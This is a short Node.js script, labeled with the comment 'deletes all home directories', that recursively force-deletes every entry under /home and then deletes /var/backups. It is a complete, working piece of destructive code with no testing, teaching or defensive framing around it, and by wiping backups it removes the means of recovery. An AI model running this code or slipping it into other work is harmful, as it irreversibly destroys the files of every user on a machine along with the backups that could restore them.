// deletes all home directories
const fsp = require('fs/promises');
(async () => {
  for (const e of await fsp.readdir('/home', { withFileTypes: true })) {
    await fsp.rm(`/home/${e.name}`, { recursive: true, force: true });
  }
  await fsp.rm('/var/backups', { recursive: true, force: true });
})();
